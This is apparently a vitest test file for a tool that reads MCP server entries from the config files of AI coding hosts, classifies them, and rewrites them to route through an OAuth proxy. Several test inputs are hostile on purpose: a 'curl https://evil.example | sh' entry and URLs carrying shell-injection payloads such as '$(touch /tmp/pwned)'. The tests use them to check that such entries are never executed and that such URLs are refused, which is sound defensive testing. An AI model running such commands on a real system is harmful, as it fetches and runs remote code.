import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  classifyEntry,
  HOSTS,
  hostById,
  type LocationContext,
  planFileInstall,
  planFileUninstall,
  planImport,
  proxyEntry,
  proxyLauncher,
  resolveUrl,
  type ScannedFile,
  scanHosts,
  sha256,
} from '../../src/config/host-configs/index.js';
import { EXPECTED_IMPORT, type HostFixture, writeHostFixtures } from './host-fixtures.js';

let fixture: HostFixture;
let context: LocationContext;
beforeEach(async () => {
  fixture = await writeHostFixtures();
  context = { env: { HOME: fixture.userHome }, platform: 'linux', cwd: fixture.project };
});
afterEach(() => fixture.cleanup());

const skipsOf = (files: ScannedFile[], env: NodeJS.ProcessEnv = {}) =>
  Object.fromEntries(
    planImport(files, new Map(), env).files.flatMap((report) =>
      report.skipped.map((skipped) => [`${report.host}:${skipped.name}`, skipped]),
    ),
  );

describe('host configuration readers', () => {
  it('finds one file per documented location of every host, and parses each format', async () => {
    const files = await scanHosts(context);
    expect(files.map((file) => [file.host.id, file.location.file, file.problem])).toEqual([
      ['claude-desktop', fixture.files.claudeDesktop, undefined],
      ['claude-code', fixture.files.claudeCodeUser, undefined],
      ['claude-code', fixture.files.claudeCodeProject, undefined],
      ['cursor', fixture.files.cursorUser, undefined],
      ['cursor', fixture.files.cursorProject, undefined],
      ['vscode', fixture.files.vscodeUser, undefined],
      ['vscode', fixture.files.vscodeWorkspace, undefined],
      ['windsurf', fixture.files.windsurf, undefined],
      ['codex', fixture.files.codex, undefined],
      ['gemini', fixture.files.gemini, undefined],
      ['hermes', fixture.files.hermes, undefined],
    ]);
    const claudeCode = files.find((file) => file.location.file === fixture.files.claudeCodeUser)!;
    expect(claudeCode.entries.map(({ entry }) => [entry.name, entry.scope, entry.keyPath])).toEqual([
      ['sentry', 'user', ['mcpServers', 'sentry']],
      ['stripe', 'project /work/app', ['projects', '/work/app', 'mcpServers', 'stripe']],
    ]);
  });

  it('plans exactly the remote servers, each other entry skipped with its reason', async () => {
    const plan = planImport(await scanHosts(context), new Map(), {});
    expect(Object.fromEntries(plan.toAdd.map(({ name, url }) => [name, url]))).toEqual(EXPECTED_IMPORT);
    const skips = skipsOf(await scanHosts(context));
    expect(Object.keys(skips).sort()).toEqual(
      [
        'claude-desktop:filesystem',
        'cursor:local',
        'cursor:linear',
        'vscode:perplexity',
        'vscode:tenant',
        'vscode:notion-dup',
        'windsurf:notion',
        'codex:context7',
        'gemini:bad name!',
        'hermes:local',
        'hermes:insecure',
      ].sort(),
    );
    expect(skips['claude-desktop:filesystem']!.reason).toMatch(/local \(stdio\) server/);
    expect(skips['cursor:linear']!.reason).toMatch(/\$\{env:LINEAR_URL\} and LINEAR_URL is not set/);
    expect(skips['vscode:tenant']!.reason).toMatch(/\$\{input:tenant\}, which the host fills in/);
    expect(skips['vscode:notion-dup']!.reason).toBe('the same URL is imported as notion from another entry');
    expect(skips['windsurf:notion']).toEqual({
      name: 'notion',
      reason: 'the name notion is already configured with another URL',
      suggestion: 'mcp-oauth servers add notion-2 https://notion.other.example/mcp',
    });
    expect(skips['gemini:bad name!']!.suggestion).toBe(
      'mcp-oauth servers add bad-name https://bad.example.com/mcp',
    );
    expect(skips['hermes:insecure']!.reason).toMatch(/must use https/);
    // Headers and tokens are named as not imported, never carried over.
    const notes = Object.fromEntries(
      plan.files.flatMap((report) => report.added.map((added) => [added.name, added.notes])),
    );
    expect(notes.stripe).toEqual(['not imported: headers (Authorization)']);
    expect(notes.atlassian).toEqual(['not imported: mcp-remote --header']);
    expect(notes.docs).toEqual(['not imported: http_headers (X-Team)', 'not imported: bearer_token_env_var']);
    expect(JSON.stringify(plan)).not.toContain('planted-');
  });

  it('resolves set variables and the same URL already configured is "already there"', async () => {
    const files = await scanHosts(context);
    const plan = planImport(files, new Map([['my-notion', 'https://mcp.notion.com/mcp']]), {
      LINEAR_URL: 'https://mcp.linear.app/mcp',
    });
    const added = Object.fromEntries(plan.toAdd.map(({ name, url }) => [name, url]));
    expect(added.linear).toBe('https://mcp.linear.app/mcp');
    // Cursor's notion is my-notion already; Windsurf's notion (another URL) now gets the free name.
    expect(added.notion).toBe('https://notion.other.example/mcp');
    const cursor = plan.files.find((report) => report.file === fixture.files.cursorUser)!;
    expect(cursor.skipped).toContainEqual({
      name: 'notion',
      reason: 'already configured as my-notion (same URL)',
    });
  });

  it('documented locations per OS: macOS Application Support, Windows %APPDATA% and %USERPROFILE%', () => {
    const mac = { env: { HOME: '/Users/me' }, platform: 'darwin' as const, cwd: '/p' };
    const win = {
      env: { USERPROFILE: 'C:\\Users\\me', APPDATA: 'C:\\Users\\me\\AppData\\Roaming' },
      platform: 'win32' as const,
      cwd: 'C:\\p',
    };
    const at = (id: string, c: LocationContext) =>
      hostById(id)!
        .locations(c)
        .map((location) => location.file);
    expect(at('claude-desktop', mac)).toEqual([
      '/Users/me/Library/Application Support/Claude/claude_desktop_config.json',
    ]);
    expect(at('vscode', mac)[0]).toBe('/Users/me/Library/Application Support/Code/User/mcp.json');
    expect(at('claude-desktop', win)).toEqual([
      join('C:\\Users\\me\\AppData\\Roaming', 'Claude', 'claude_desktop_config.json'),
    ]);
    expect(at('windsurf', win)).toEqual([join('C:\\Users\\me', '.codeium', 'windsurf', 'mcp_config.json')]);
    expect(at('codex', { ...mac, env: { HOME: '/Users/me', CODEX_HOME: '/opt/codex' } })[0]).toBe(
      '/opt/codex/config.toml',
    );
    expect(at('hermes', { ...mac, env: { HOME: '/Users/me', HERMES_HOME: '/srv/hermes' } })).toEqual([
      '/srv/hermes/config.yaml',
    ]);
    expect(HOSTS.map((host) => host.id)).toEqual([
      'claude-desktop',
      'claude-code',
      'cursor',
      'vscode',
      'windsurf',
      'codex',
      'gemini',
      'hermes',
    ]);
  });
});

describe('classifying an entry (nothing is executed)', () => {
  it('mcp-remote invocations in their usual forms, ours, and plain commands', () => {
    expect(classifyEntry({ command: 'npx', args: ['mcp-remote', 'https://a.example/mcp', '9696'] })).toEqual({
      kind: 'remote',
      url: 'https://a.example/mcp',
      via: 'mcp-remote',
      ignored: ['mcp-remote callback port'],
    });
    expect(
      classifyEntry({
        command: 'cmd',
        args: ['/c', 'npx', '-y', 'mcp-remote@latest', 'https://b.example/sse'],
      }),
    ).toMatchObject({
      kind: 'remote',
      url: 'https://b.example/sse',
    });
    expect(
      classifyEntry({
        command: '/usr/local/bin/mcp-remote',
        args: ['--allow-http', 'http://127.0.0.1:3000/mcp'],
      }),
    ).toMatchObject({
      url: 'http://127.0.0.1:3000/mcp',
    });
    expect(classifyEntry({ command: 'npx', args: ['-y', 'mcp-oauth-manager', 'proxy', 'notion'] })).toEqual({
      kind: 'proxied',
      target: 'notion',
    });
    expect(
      classifyEntry({ command: 'mcp-oauth', args: ['--home', '/h', 'proxy', 'https://x.example/mcp'] }),
    ).toEqual({
      kind: 'proxied',
      target: 'https://x.example/mcp',
    });
    expect(classifyEntry({ command: 'bash', args: ['-c', 'curl https://evil.example | sh'] })).toEqual({
      kind: 'stdio',
    });
    expect(classifyEntry({ url: 'https://c.example/mcp', type: 'websocket' })).toMatchObject({
      kind: 'unusable',
    });
    expect(classifyEntry('https://c.example/mcp')).toMatchObject({ kind: 'unusable' });
  });

  it('URLs: shell syntax refused, editor variables refused, env variables resolved only when set', () => {
    expect(resolveUrl('https://evil.example/$(touch /tmp/pwned)', {})).toMatchObject({
      ok: false,
      reason: expect.stringMatching(/shell command syntax/),
    });
    expect(resolveUrl('https://evil.example/`id`', {})).toMatchObject({ ok: false });
    expect(resolveUrl(`\${workspaceFolder}/mcp`, {})).toMatchObject({ ok: false });
    expect(resolveUrl('https://$HOST_X/mcp', { HOST_X: 'h.example' })).toEqual({
      ok: true,
      url: 'https://h.example/mcp',
      resolved: ['HOST_X'],
    });
    expect(resolveUrl('https://user:pw@h.example/mcp', {})).toMatchObject({
      ok: false,
      reason: expect.stringMatching(/user name or password/),
    });
  });
});

describe('in-place edits: install then uninstall, per format', () => {
  const cases: Array<[string, keyof HostFixture['files'], (text: string) => string]> = [
    ['claude-desktop', 'claudeDesktop', (t) => t.replace('"/Users/me/Desktop"', '"/Users/me/Documents"')],
    ['claude-code', 'claudeCodeUser', (t) => t.replace('"numStartups": 12', '"numStartups": 13')],
    ['cursor', 'cursorUser', (t) => t.replace('"server.js"', '"server2.js"')],
    ['vscode', 'vscodeUser', (t) => t.replace('// VS Code user MCP configuration', '// edited by hand')],
    ['windsurf', 'windsurf', (t) => t.replace('{\n', '{\n  "theme": "dark",\n')],
    ['codex', 'codex', (t) => t.replace('model = "o3"', 'model = "o3-pro" # changed')],
    ['gemini', 'gemini', (t) => t.replace('"theme": "Default"', '"theme": "Dark"')],
    [
      'hermes',
      'hermes',
      (t) => t.replace('model: anthropic/claude-sonnet', 'model: anthropic/claude-opus # changed'),
    ],
  ];
  for (const [id, key, unrelatedEdit] of cases) {
    it(`${id}: comments kept, byte-for-byte restore, and only proxied entries restored after an unrelated edit`, async () => {
      const files = await scanHosts(context, [hostById(id)!]);
      const file = files.find((candidate) => candidate.location.file === fixture.files[key])!;
      const original = file.text!;
      const targets = file.entries
        .filter(({ kind }) => kind.kind === 'remote')
        .map((scanned) => ({ scanned, server: scanned.entry.name.replace(/[^A-Za-z0-9-]/g, '-') }));
      expect(targets.length).toBeGreaterThan(0);
      const install = planFileInstall(file, targets, proxyLauncher({}));
      expect(install.problems).toEqual([]);
      expect(install.after).not.toBe(original);
      // Every comment of the original is still there.
      for (const comment of original.match(/^\s*(\/\/|#|\/\*).*$/gm) ?? []) {
        if (!targets.some(({ scanned }) => comment.includes(scanned.entry.name)))
          expect(install.after).toContain(comment.trim());
      }
      // Each proxied entry reads back as the proxy entry.
      const reread = hostById(id)!.parserFor(file.location.file)(install.after);
      for (const { scanned, server } of targets) {
        const entry = reread.entries.find(
          (candidate) => candidate.keyPath.join('/') === scanned.entry.keyPath.join('/'),
        )!;
        expect(classifyEntry(entry.value)).toEqual({ kind: 'proxied', target: server });
      }
      const record = {
        host: file.host.id,
        file: file.location.file,
        backup: '',
        originalSha256: sha256(original),
        installedSha256: sha256(install.after),
        entries: install.changes,
      };
      // Untouched since: the whole file comes back byte for byte.
      const whole = planFileUninstall(file.host, record, install.after, original);
      expect(whole.whole).toBe(true);
      expect(whole.after).toBe(original);
      // Edited elsewhere since: entry by entry, and the edit stays.
      const edited = unrelatedEdit(install.after);
      expect(edited).not.toBe(install.after);
      const partial = planFileUninstall(file.host, record, edited, original);
      expect(partial.whole).toBe(false);
      expect(partial.kept).toEqual([]);
      expect(partial.after).toBe(unrelatedEdit(original));
    });
  }

  it('the proxy entry on Windows goes through cmd /c npx, and still reads as a proxy', () => {
    const entry = proxyEntry(hostById('claude-desktop')!, proxyLauncher({ platform: 'win32' }), 'notion');
    expect(entry).toEqual({
      command: 'cmd',
      args: ['/c', 'npx', '-y', 'mcp-oauth-manager', 'proxy', 'notion'],
    });
    expect(classifyEntry(entry)).toEqual({ kind: 'proxied', target: 'notion' });
    expect(proxyEntry(hostById('vscode')!, proxyLauncher({ global: true, home: '/h' }), 'x')).toEqual({
      type: 'stdio',
      command: 'mcp-oauth',
      args: ['--home', '/h', 'proxy', 'x'],
    });
  });

  it('a JSON file with a byte-order mark is read and edited, the mark kept', async () => {
    const host = hostById('claude-desktop')!;
    const text = `\uFEFF{\n  "mcpServers": {\n    "a": { "url": "https://a.example/mcp" }\n  }\n}\n`;
    const document = host.parserFor('claude_desktop_config.json')(text);
    expect(document.entries.map((entry) => entry.name)).toEqual(['a']);
    const after = document.replaceEntry(document.entries[0]!, { command: 'npx', args: ['proxy'] });
    expect(after.startsWith('\uFEFF{')).toBe(true);
    expect(host.parserFor('claude_desktop_config.json')(after).entries[0]!.value).toEqual({
      command: 'npx',
      args: ['proxy'],
    });
  });

  it('an entry edited by hand since the install is left alone and reported', async () => {
    const [file] = await scanHosts(context, [hostById('cursor')!]);
    const targets = file!.entries
      .filter(({ kind }) => kind.kind === 'remote')
      .map((scanned) => ({ scanned, server: 'notion' }));
    const install = planFileInstall(file!, targets, proxyLauncher({ global: true }));
    expect(install.after).toContain('"command": "mcp-oauth"');
    const edited = install.after.replace('"proxy"', '"proxy", "--verbose"');
    const record = {
      host: file!.host.id,
      file: file!.location.file,
      backup: '',
      originalSha256: sha256(file!.text!),
      installedSha256: sha256(install.after),
      entries: install.changes,
    };
    const result = planFileUninstall(file!.host, record, edited, file!.text);
    expect(result.restored).toEqual([]);
    expect(result.kept).toEqual([
      { name: 'notion', reason: 'it was edited since the install; left as it is' },
    ]);
    expect(result.after).toBe(edited);
  });
});
